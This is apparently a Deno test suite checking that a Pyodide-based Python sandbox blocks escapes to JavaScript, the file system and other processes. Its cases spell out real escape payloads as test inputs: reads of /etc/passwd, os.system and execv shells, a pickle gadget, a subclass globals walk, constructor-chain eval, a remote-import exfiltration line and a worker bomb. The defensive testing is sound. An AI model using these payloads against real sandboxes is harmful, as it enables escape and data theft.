/** Attacks that reach for JavaScript and for other processes (R01–R13, R18, C136, C137). */
import { assert, assertEquals } from "@std/assert";
import {
  attack,
  ends,
  gives,
  loses,
  pair,
  prints,
  raises,
  Target,
  withstand,
} from "./fixtures/attacks.ts";

/** Names of globals with which JavaScript reaches out of its realm. */
const OUTWARD = "Deno process require fetch WebSocket Worker XMLHttpRequest localStorage caches " +
  "navigator eval Function globalThis self close postMessage importScripts BroadcastChannel " +
  "SharedArrayBuffer indexedDB EventSource MessageChannel console WebAssembly setTimeout";

const walk = (start: string) => `${start}.constructor.constructor.new("return globalThis")()`;

Deno.test("Python gets no JavaScript but its bridge (R01–R04, R07–R13, R18, C136, C137)", async (t) => {
  await withstand(t, [
    attack(
      "R01 js-deno",
      'import js; js.Deno.readTextFileSync("/etc/passwd")',
      raises(/^AttributeError: Deno/),
    ),
    attack("R02 run-js", 'from pyodide.code import run_js; run_js("1+1")', raises(/^ImportError/)),
    attack("R03 js-eval", 'import js; js.eval("globalThis")', raises(/^AttributeError: eval/)),
    attack(
      "R04 constructor of the configuration",
      `import pyodide_js as p; ${walk("p._api.config")}`,
      raises(/EvalError/),
    ),
    attack(
      "R04 constructor of a converted value",
      `from pyodide.ffi import to_js; ${walk("to_js([1])")}`,
      raises(/EvalError/),
    ),
    attack(
      "R04 constructors of an asynchronous function, a generator and a promise",
      `import pyodide_js as p, js
from pyodide.ffi import JsException
for start in (p.loadPackage, p._api.loadBinaryFile, p.FS.mkdir):
  try: start.constructor.new("return globalThis")
  except JsException as error: print(error.name)`,
      prints("EvalError\nEvalError\nEvalError\n"),
    ),
    attack(
      "R07 node-builtin",
      `import js; await js.eval("import('node:fs')")`,
      raises(/^AttributeError: eval/),
    ),
    attack(
      "R08 getBuiltinModule",
      'import js; js.process.getBuiltinModule("node:vm").runInThisContext("typeof Deno")',
      raises(/^AttributeError: process/),
    ),
    attack(
      "R09 import-exfil",
      `import js; await js.eval("import('https://raw.githubusercontent.com/o/r/x.js?d=1')")`,
      raises(/^AttributeError: eval/),
    ),
    ...["npm:left-pad", "jsr:@std/path"].map((name) =>
      attack(`R10 ${name}`, `import js; await js.eval("import('${name}')")`, raises(/eval/))
    ),
    attack(
      "R11 nodefs-root",
      `import pyodide_js as p; from pyodide.ffi import to_js
p.FS.mkdir("/m"); p.FS.mount(p.FS.filesystems.NODEFS, to_js({"root": "/"}), "/m")
import os; print(os.listdir("/m"))`,
      raises(/JsException/),
    ),
    attack(
      "R12 mountNodeFS",
      'import pyodide_js as p; p.mountNodeFS("/x", "/etc")',
      raises(/only works in Node/),
    ),
    attack(
      "R13 loadBinaryFile",
      'import pyodide_js as p; await p._api.loadBinaryFile("/etc/passwd")',
      raises(/JsException/),
    ),
    attack(
      "R18 worker-bomb",
      "import js; [js.eval(\"new Worker('data:text/javascript,for(;;);',{type:'module'})\") for _ in range(200)]",
      raises(/^AttributeError: eval/),
    ),
    attack("C136 exit", "import js; js.Deno.exit(3)", raises(/^AttributeError: Deno/)),
    attack("C136 close", "import js; js.self.close()", raises(/^AttributeError: self/)),
    attack(
      "C137 every name that leads outward",
      `import js\nprint([name for name in "${OUTWARD}".split() if hasattr(js, name)])`,
      prints("[]\n"),
    ),
    ...pair(
      "E01 names of JavaScript by import",
      ["from js import fetch", raises(/^ImportError/)],
      ["import js; js.rlm is not None", gives("True")],
    ),
    ...pair(
      "E02 the realm's global by a callback's this",
      [
        `import pyodide_js as p, asyncio
from pyodide.ffi import create_proxy, to_js
seen = []
look = create_proxy(lambda this, *rest: seen.append(this), capture_this=True)
to_js([1]).forEach(look)
p._api.scheduleCallback(look, 1)
await asyncio.sleep(0.2)
print(len(seen), [hasattr(this, "WebAssembly") or hasattr(this, "globalThis") for this in seen])`,
        prints("2 [False, False]\n"),
      ],
      [
        `import asyncio
seen = []
asyncio.get_event_loop().call_later(0.01, seen.append, "called")
await asyncio.sleep(0.1)
print(seen)`,
        prints("['called']\n"),
      ],
    ),
    ...pair(
      "E03 frames of errors",
      [
        `from pyodide.ffi import create_proxy, to_js, JsException
try: to_js([1]).constructor.constructor.new("x")
except JsException as caught: error = caught
base = to_js({}).constructor.getPrototypeOf(error.constructor)
base.prepareStackTrace = create_proxy(lambda error, frames: [f.getThis() for f in frames])`,
        raises(/read only|not extensible|JsException/),
      ],
      [
        `import traceback
try: 1 / 0
except ZeroDivisionError: print(traceback.format_exc().splitlines()[-1])`,
        prints("ZeroDivisionError: division by zero\n"),
      ],
    ),
    ...pair(
      "E04 prototypes of built-in objects",
      [
        `from pyodide.ffi import create_proxy, to_js
from pyodide.ffi import JsException
for target, name in ((to_js([1]).constructor.prototype, "push"), (to_js({}).constructor.prototype, "toJSON"),
                     (to_js({}).constructor, "keys"), (to_js(b"x").constructor.prototype, "set")):
  try: setattr(target, name, create_proxy(lambda *a: 1)); print("set", name)
  except JsException as error: print(error.name)`,
        prints("TypeError\nTypeError\nTypeError\nTypeError\n"),
      ],
      [
        `from pyodide.ffi import to_js
to_js([3, 1, 2]).to_py(), to_js({"a": [1]}).to_py() if hasattr(to_js({"a": [1]}), "to_py") else None`,
        ends("ok"),
      ],
    ),
    ...pair(
      "E05 loading a package",
      [
        'import pyodide_js as p; await p.loadPackage("numpy")',
        raises(/No known package/),
      ],
      ["import json, re, math, statistics; statistics.mean([1, 2, 3])", gives("2")],
    ),
    ...pair(
      "E06 other file systems of the loader",
      [
        `import pyodide_js as p; p.FS.mkdir("/w"); p.FS.mount(p.FS.filesystems.WORKERFS, {}, "/w")`,
        raises(/ReferenceError/),
      ],
      ['open("/tmp/a", "w").write("kept"); open("/tmp/a").read()', gives("'kept'")],
    ),
    ...pair(
      "E08 the bridge itself",
      [
        `import js
from pyodide.ffi import JsException
for name in ("call", "output", "send_blob", "cancel"):
  try: setattr(js.rlm, name, print)
  except JsException as error: print(error.name, getattr(js.rlm, "constructor", None), getattr(js.rlm.call, "constructor", None))`,
        prints("TypeError None None\n".repeat(4)),
      ],
      ["echo('through')", gives("'through'")],
    ),
    ...pair(
      "E07 a js module of one's own",
      [
        `import pyodide_js as p, sys
p.registerJsModule("js", p); sys.modules.pop("js")
import js
print(hasattr(js, "Deno"))`,
        prints("False\n"),
      ],
      ["echo([1, 'a', None])", gives("[1, 'a', None]")],
    ),
  ]);
});

Deno.test("Python starts no process and runs no program (R05, R06)", async (t) => {
  const refused = raises(/^OSError: no other program can be started here/);
  await withstand(t, [
    attack(
      "R05 emscripten-script",
      `import ctypes
f = ctypes.CDLL(None).emscripten_run_script_string
f.restype = ctypes.c_char_p; f.argtypes = [ctypes.c_char_p]
print(f(b"typeof Deno"))`,
      loses(/Code generation from strings disallowed/),
    ),
    attack("R06 os.system", 'import os; os.system("id")', refused),
    attack("R06 os.popen", 'import os; os.popen("id").read()', refused),
    attack("R06 subprocess", 'import subprocess; subprocess.run(["id"])', refused),
    attack("R06 fork", "import os; os.fork()", refused),
    attack("R06 execv", 'import os; os.execv("/bin/sh", ["sh"])', refused),
    attack("R06 the real system", 'import posix; posix.system("id")', gives("-1")),
    attack("R06 the real fork", "import posix; posix.fork()", raises(/not implemented/)),
    attack(
      "R06 system of the C library",
      'import ctypes; ctypes.CDLL(None).system(b"id")',
      gives("-1"),
    ),
    ...pair(
      "E09 processes by asyncio",
      [
        'import asyncio; await asyncio.create_subprocess_exec("id")',
        raises(/^NotImplementedError/),
      ],
      [
        "import asyncio\nasync def n(i): return i\nawait asyncio.gather(n(1), n(2))",
        gives("[1, 2]"),
      ],
    ),
    ...pair(
      "E10 processes by unpickling",
      [
        `import os, pickle
class Evil:
  def __reduce__(self): return os.system, ("id",)
pickle.loads(pickle.dumps(Evil()))`,
        refused,
      ],
      ["import pickle; pickle.loads(pickle.dumps({'a': (1, 2)}))", gives("{'a': (1, 2)}")],
    ),
    ...pair(
      "E11 processes by the class tree",
      [
        `found = [c for c in object.__subclasses__() if c.__name__ == "_wrap_close"]
import os
os._wrap_close.__init__.__globals__["system"]("id")`,
        refused,
      ],
      ["[c.__name__ for c in bool.__mro__]", gives("['bool', 'int', 'object']")],
    ),
    ...pair(
      "E12 terminals",
      ['import pty; pty.spawn("id")', raises(/^OSError/)],
      ["import shutil; shutil.get_terminal_size().columns > 0", gives("True")],
    ),
    ...pair(
      "E13 processes by multiprocessing",
      ["import multiprocessing as m; m.Process(target=print).start()", raises(/_multiprocessing/)],
      [
        `from concurrent.futures import ThreadPoolExecutor
with ThreadPoolExecutor() as pool: print(list(pool.map(lambda n: n * n, range(4))))`,
        prints("[0, 1, 4, 9]\n"),
      ],
    ),
    ...pair(
      "E14 a library of one's own",
      [
        'open("/tmp/x.so", "wb").write(b"\\0asm\\1\\0\\0\\0"); import ctypes; ctypes.CDLL("/tmp/x.so")',
        raises(/^OSError/),
      ],
      ["import ctypes; ctypes.c_int32(2**31).value", gives("-2147483648")],
    ),
    ...pair(
      "E15 signals to other processes",
      ["import os; os.kill(os.getppid(), 9)", raises(/^PermissionError/)],
      ["import os; os.getpid() > 0", gives("True")],
    ),
  ]);
});

Deno.test("no attack leaves a process or a thread behind (R06, R18)", {
  ignore: Deno.build.os !== "linux",
}, async () => {
  await using target = await Target.open();
  const threads = async () =>
    (await Array.fromAsync(Deno.readDir(`/proc/${target.pid}/task`))).length;
  const children = async () =>
    (await Deno.readTextFile(`/proc/${target.pid}/task/${target.pid}/children`)).trim();
  await target.run(["1"]);
  const before = await threads();
  for (const code of ["posix.system('id')", "js.Worker.new('x')", "posix.fork()"]) {
    await target.run([`import posix, js\n${code}`]);
  }
  assertEquals(await children(), "");
  assert(await threads() <= before);
});
